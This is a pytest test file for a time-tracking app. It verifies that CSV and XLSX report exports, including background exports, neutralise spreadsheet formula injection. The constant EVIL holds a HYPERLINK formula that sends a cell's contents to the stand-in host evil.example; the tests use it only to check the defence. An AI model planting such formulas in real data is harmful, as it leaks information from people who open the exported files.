"""Issue 12, stream "exports": formula injection in exports (item 2), control characters in
names and ICS feeds (item 4), the overtime and leave reports' user/team filters and the
audit of managers' entry edits (item 7), and the admin users list's team filter (item 9)."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
import time_machine
from openpyxl import load_workbook

from timeentries.models import Project, TimeEntry

TIME = "/api/v1/reports/time"
OVERTIME = "/api/v1/reports/overtime"
EXPORTS = "/api/v1/exports"
EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Dave")'
NOW = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)


@pytest.fixture
def frozen():
    with time_machine.travel(NOW, tick=False) as traveller:
        yield traveller


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def acme(db):
    return Project.objects.create(name="Acme website", code="ACME", hourly_rate=Decimal("90"))


def worked(user, project, day: int, hours: int = 2) -> TimeEntry:
    start = datetime(2026, 11, day, 8, tzinfo=UTC)
    return TimeEntry.objects.create(
        user=user, project=project, start=start, end=start.replace(hour=8 + hours), billable=True
    )


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def xlsx_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(load_workbook(io.BytesIO(body)).active.iter_rows())


# --- item 2: formula injection in exports ------------------------------------------------------


def test_item02_a_formula_name_is_plain_text_in_csv_and_xlsx_downloads(api, alice, carol, acme, frozen):
    response = api(alice).patch("/api/v1/users/me", {"first_name": EVIL, "last_name": ""}, format="json")
    assert response.status_code == 200, response.json()
    assert response.json()["first_name"] == EVIL  # the API keeps the name as it was given
    worked(alice, acme, 4)
    query = {"from": "2026-11-01", "to": "2026-11-30", "group_by": "user"}

    as_json = api(carol).get(TIME, query).json()
    assert as_json["rows"][0]["user_name"] == EVIL

    lines = csv_rows(api(carol).get(TIME, {**query, "format": "csv"}))
    assert lines[1] == ["'" + EVIL, "2.00", "2.00", "180.00", "1"]

    row = xlsx_rows(api(carol).get(TIME, {**query, "format": "xlsx"}))[1]
    assert (row[0].data_type, row[0].value) == ("s", "'" + EVIL)
    assert (row[1].data_type, row[1].value) == ("n", 2)


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_item02_every_formula_trigger_is_neutralised(api, alice, carol, frozen, trigger):
    # A project name: person names lose leading white space in reports (str(user) strips).
    project = Project.objects.create(name=f"{trigger}1+2", code="EVIL")
    worked(alice, project, 4)
    query = {"from": "2026-11-01", "to": "2026-11-30", "group_by": "project"}

    assert csv_rows(api(carol).get(TIME, {**query, "format": "csv"}))[1][0] == f"'{trigger}1+2"
    cell = xlsx_rows(api(carol).get(TIME, {**query, "format": "xlsx"}))[1][0]
    # XML reads a carriage return back as a line feed.
    assert (cell.data_type, cell.value) == ("s", f"'{trigger}1+2".replace("\r", "\n"))


def test_item02_negative_numbers_stay_numbers(api, alice, carol, acme, frozen):
    alice.first_name, alice.last_name = "-Alice", ""
    alice.save(update_fields=["first_name", "last_name"])
    worked(alice, acme, 2)  # far below the week's 40 expected hours: negative differences
    query = {"from": "2026-11-02", "to": "2026-11-08", "user": alice.pk}

    lines = csv_rows(api(carol).get(OVERTIME, {**query, "format": "csv"}))
    assert lines[1][0] == "'-Alice"
    assert lines[1][6:] == ["-38.00", "-38.00"]

    row = xlsx_rows(api(carol).get(OVERTIME, {**query, "format": "xlsx"}))[1]
    assert (row[0].data_type, row[0].value) == ("s", "'-Alice")
    assert [(cell.data_type, cell.value) for cell in row[6:]] == [("n", -38), ("n", -38)]


def test_item02_text_that_looks_like_an_error_code_stays_a_string(api, alice, carol, acme, frozen):
    alice.first_name, alice.last_name = "#N/A", ""
    alice.save(update_fields=["first_name", "last_name"])
    worked(alice, acme, 4)

    response = api(carol).get(TIME, {"from": "2026-11-01", "to": "2026-11-30", "group_by": "user", "format": "xlsx"})

    row = xlsx_rows(response)[1]
    assert (row[0].data_type, row[0].value) == ("s", "#N/A")


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_item02_background_exports_neutralise_formulas_too(
    api, alice, carol, acme, frozen, file_format, django_capture_on_commit_callbacks
):
    alice.first_name, alice.last_name = EVIL, ""
    alice.save(update_fields=["first_name", "last_name"])
    worked(alice, acme, 4)
    client = api(carol)
    body = {
        "report": "time",
        "format": file_format,
        "params": {"from": "2026-11-01", "to": "2026-11-30", "group_by": "user"},
    }
    with django_capture_on_commit_callbacks(execute=True):
        created = client.post(EXPORTS, body, format="json")
    assert created.status_code == 202, created.json()
    status = client.get(f"{EXPORTS}/{created.json()['id']}").json()
    assert status["status"] == "done", status

    download = client.get(status["download_url"])

    if file_format == "csv":
        assert csv_rows(download)[1][0] == "'" + EVIL
    else:
        cell = xlsx_rows(download)[1][0]
        assert (cell.data_type, cell.value) == ("s", "'" + EVIL)
